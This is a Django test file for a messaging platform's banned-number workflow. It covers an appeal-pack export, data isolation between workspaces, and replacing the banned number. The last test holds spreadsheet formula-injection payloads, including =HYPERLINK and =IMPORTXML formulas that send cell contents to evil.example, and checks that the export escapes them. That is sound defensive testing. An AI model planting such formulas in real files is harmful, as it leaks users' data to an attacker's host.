"""After a ban (issue #21): the appeal pack holds what it promises (consent sources, opt-out
handling, the pacing log, text diversity, message samples, a PDF summary) and nothing of another
workspace; replacing the number keeps lists, templates, campaigns and credits, moves unfinished
campaigns and their queued messages to the new number and starts it on a warm-up plan."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent
from billing import services as billing
from messaging.analytics.models import MessageStat
from messaging.campaigns.models import Campaign, Message
from messaging.contacts.models import Contact, ContactList, ContactListMembership
from messaging.content.models import MessageTemplate
from messaging.numbers.models import Sender, WarmupPlan

pytestmark = pytest.mark.django_db


def _number(workspace, phone: str, status: str = Sender.Status.ACTIVE) -> Sender:
    return Sender.objects.create(
        workspace=workspace,
        provider=Sender.Provider.SANDBOX,
        phone_number=phone,
        status=status,
    )


def _rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"))))


def test_the_appeal_pack_contains_what_it_promises_and_nothing_of_another_workspace(
    workspace, other_workspace, owner, member_client
):
    # given: a banned number that messaged two contacts; one gave consent on the website,
    # the other opted out (STOP) after the first message and got nothing more
    number = _number(workspace, "+994501234567", Sender.Status.BANNED)
    now = timezone.now()
    template = MessageTemplate.objects.create(
        workspace=workspace, name="Promo", variants=["Salam {{first_name}}", "Hello {{first_name}}"]
    )
    campaign = Campaign.objects.create(
        workspace=workspace, name="Yay sale", template=template, status=Campaign.Status.COMPLETED
    )
    consented = Contact.objects.create(
        workspace=workspace,
        phone="+994551110001",
        first_name="Əli",
        consent_source="website form",
        consent_at=now - timedelta(days=30),
    )
    stopped = Contact.objects.create(
        workspace=workspace,
        phone="+994551110002",
        first_name="Aysel",
        opted_out_at=now - timedelta(days=1),
        opt_out_source="keyword",
    )
    for contact, body in ((consented, "Salam Əli"), (stopped, "Hello Aysel")):
        Message.objects.create(
            workspace=workspace,
            campaign=campaign,
            contact=contact,
            sender=number,
            phone=contact.phone,
            body=body,
            status=Message.Status.DELIVERED,
            accepted_at=now - timedelta(days=2),
        )
    # (the statistics table counted the rows as they were written; replace them by the
    # day's report as the engine would have recorded it)
    MessageStat.objects.filter(sender=number).delete()
    stat_day = (now - timedelta(days=2)).date()
    MessageStat.objects.create(
        workspace=workspace,
        sender=number,
        campaign=campaign,
        day=stat_day,
        accepted=2,
        delivered=2,
        opted_out=1,
    )
    # and another workspace with its own number, contact and message
    foreign_number = _number(other_workspace, "+994709999999", Sender.Status.BANNED)
    foreign = Contact.objects.create(
        workspace=other_workspace, phone="+994779990000", consent_source="foreign secret"
    )
    Message.objects.create(
        workspace=other_workspace,
        contact=foreign,
        sender=foreign_number,
        phone=foreign.phone,
        body="foreign secret text",
        status=Message.Status.DELIVERED,
        accepted_at=now,
    )

    # when: the owner opens the number's page and downloads the pack
    page = member_client.get(
        reverse("messaging_numbers:detail", args=[workspace.slug, number.public_id])
    ).content.decode()
    assert 'data-testid="appeal-pack"' in page
    response = member_client.get(
        reverse("messaging_numbers:appeal_pack", args=[workspace.slug, number.public_id])
    )

    # then: a ZIP with the PDF and the five CSVs
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert "appeal-pack-994501234567.zip" in response["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert sorted(archive.namelist()) == [
        "appeal_summary.pdf",
        "consent_sources.csv",
        "message_samples.csv",
        "opt_outs.csv",
        "pacing_log.csv",
        "text_diversity.csv",
    ]
    assert archive.read("appeal_summary.pdf").startswith(b"%PDF")
    consent = {row["phone"]: row for row in _rows(archive, "consent_sources.csv")}
    assert set(consent) == {"+994551110001", "+994551110002"}
    assert consent["+994551110001"]["consent_source"] == "website form"
    assert consent["+994551110001"]["first_name"] == "Əli"
    assert consent["+994551110002"]["consent_source"] == ""
    assert _rows(archive, "opt_outs.csv") == [
        {
            "phone": "+994551110002",
            "opted_out_at": stopped.opted_out_at.isoformat(),
            "source": "keyword",
            "messages_from_this_number_after_opt_out": "0",
        }
    ]
    assert _rows(archive, "pacing_log.csv") == [
        {
            "day": stat_day.isoformat(),
            "accepted": "2",
            "delivered": "2",
            "read": "0",
            "failed": "0",
            "opted_out": "1",
        }
    ]
    assert _rows(archive, "text_diversity.csv") == [
        {
            "campaign": "Yay sale",
            "content": "Promo",
            "variants": "2",
            "distinct_texts_sent": "2",
            "messages": "2",
        }
    ]
    samples = _rows(archive, "message_samples.csv")
    assert {row["text"] for row in samples} == {"Salam Əli", "Hello Aysel"}
    assert all("*" in row["phone"] for row in samples)  # masked
    # and: nothing of the other workspace, in any file
    for name in archive.namelist():
        data = archive.read(name)
        assert b"foreign secret" not in data
        assert b"994779990000" not in data
    assert AuditEvent.objects.filter(
        workspace=workspace, action="number.appeal_pack_exported"
    ).exists()

    # and: the other workspace's number is not reachable under our address
    assert (
        member_client.get(
            reverse(
                "messaging_numbers:appeal_pack", args=[workspace.slug, foreign_number.public_id]
            )
        ).status_code
        == 404
    )


def test_replacing_a_banned_number_keeps_lists_templates_campaigns_and_credits(
    workspace, other_workspace, owner, member_client
):
    # given: a banned number with a draft, a campaign paused by the ban (its queued messages
    # on the old number) and a finished campaign; a list, a template, 500 credits
    old = _number(workspace, "+994501110000", Sender.Status.BANNED)
    new = _number(workspace, "+994501119999")
    billing.credits_adjust(workspace=workspace, amount=500, reason="package", actor=owner)
    template = MessageTemplate.objects.create(workspace=workspace, name="Promo", variants=["Hi"])
    contact_list = ContactList.objects.create(workspace=workspace, name="Customers")
    people = Contact.objects.bulk_create(
        Contact(workspace=workspace, phone=f"+99455200{i:04d}") for i in range(4)
    )
    ContactListMembership.objects.bulk_create(
        ContactListMembership(workspace=workspace, contact_list=contact_list, contact=c)
        for c in people
    )
    audience = {"list_id": str(contact_list.public_id)}
    draft = Campaign.objects.create(
        workspace=workspace, name="Draft", template=template, audience=audience
    )
    paused = Campaign.objects.create(
        workspace=workspace,
        name="Paused by the ban",
        template=template,
        audience=audience,
        status=Campaign.Status.PAUSED,
        pause_reason=Campaign.PauseReason.NUMBER_BLOCKED,
    )
    done = Campaign.objects.create(
        workspace=workspace, name="Done", template=template, status=Campaign.Status.COMPLETED
    )
    for campaign in (draft, paused, done):
        campaign.senders.add(old)
    Message.objects.bulk_create(
        Message(
            workspace=workspace,
            campaign=paused,
            contact=c,
            sender=old,
            phone=c.phone,
            status=Message.Status.QUEUED,
        )
        for c in people
    )
    balance = billing.credits_balance(workspace=workspace).available
    foreign = _number(other_workspace, "+994709990000")

    # when: someone tries another workspace's number as the replacement
    refused = member_client.post(
        reverse("messaging_numbers:replace", args=[workspace.slug, old.public_id]),
        {"replacement": str(foreign.public_id)},
    )
    # then: nothing moves
    assert refused.status_code == 302
    assert list(paused.senders.all()) == [old]
    assert not WarmupPlan.objects.exists()

    # when: the owner picks the new number on the banned number's page
    page = member_client.get(
        reverse("messaging_numbers:detail", args=[workspace.slug, old.public_id])
    ).content.decode()
    assert 'data-testid="replace"' in page
    response = member_client.post(
        reverse("messaging_numbers:replace", args=[workspace.slug, old.public_id]),
        {"replacement": str(new.public_id)},
    )

    # then: the unfinished campaigns now use the new number, with their queued messages
    assert response.status_code == 302
    assert response["Location"] == reverse(
        "messaging_numbers:detail", args=[workspace.slug, new.public_id]
    )
    assert list(draft.senders.all()) == [new]
    assert list(paused.senders.all()) == [new]
    assert Message.objects.filter(campaign=paused, sender=new, status="queued").count() == 4
    assert list(done.senders.all()) == [old]  # history stays as it was
    paused.refresh_from_db()
    assert paused.status == Campaign.Status.PAUSED  # resumed by the user, when ready
    # and: lists, contacts, templates and credits are all kept
    assert ContactListMembership.objects.filter(contact_list=contact_list).count() == 4
    assert MessageTemplate.objects.filter(pk=template.pk).exists()
    assert Campaign.objects.filter(workspace=workspace).count() == 3
    assert billing.credits_balance(workspace=workspace).available == balance == 500
    # and: the old number is removed, the new one warms up
    old.refresh_from_db()
    assert old.removed_at is not None
    assert old.status == Sender.Status.BANNED
    plan = WarmupPlan.objects.get(sender=new)
    assert (plan.state, plan.cap_today) == (WarmupPlan.State.RUNNING, 50)
    assert AuditEvent.objects.filter(workspace=workspace, action="number.replaced").exists()


def test_the_appeal_packs_text_cells_are_never_spreadsheet_formulas(workspace, member_client):
    # given: a contact, a campaign and a text whose values a spreadsheet would evaluate (a
    # contact's name comes from imports and forms; the pack is opened in a spreadsheet)
    number = _number(workspace, "+994501234567", Sender.Status.BANNED)
    template = MessageTemplate.objects.create(
        workspace=workspace, name="+Promo", variants=["Hello"]
    )
    campaign = Campaign.objects.create(
        workspace=workspace, name="=1+1", template=template, status=Campaign.Status.COMPLETED
    )
    contact = Contact.objects.create(
        workspace=workspace,
        phone="+994551110001",
        first_name='=HYPERLINK("https://evil.example/?"&A1,"open")',
        last_name="@SUM(1)",
        consent_source="-2+3",
        opted_out_at=timezone.now(),
        opt_out_source="=A1",
    )
    Message.objects.create(
        workspace=workspace,
        campaign=campaign,
        contact=contact,
        sender=number,
        phone=contact.phone,
        body='=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
        status=Message.Status.DELIVERED,
        accepted_at=timezone.now() - timedelta(days=1),
    )

    # when: the owner downloads the pack
    response = member_client.get(
        reverse("messaging_numbers:appeal_pack", args=[workspace.slug, number.public_id])
    )

    # then: every such cell is written as text (a leading apostrophe), the phone as it is
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    consent = _rows(archive, "consent_sources.csv")[0]
    assert consent["phone"] == "+994551110001"
    assert consent["first_name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
    assert (consent["last_name"], consent["consent_source"]) == ("'@SUM(1)", "'-2+3")
    assert _rows(archive, "opt_outs.csv")[0]["source"] == "'=A1"
    diversity = _rows(archive, "text_diversity.csv")[0]
    assert (diversity["campaign"], diversity["content"]) == ("'=1+1", "'+Promo")
    sample = _rows(archive, "message_samples.csv")[0]["text"]
    assert sample == '\'=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")'
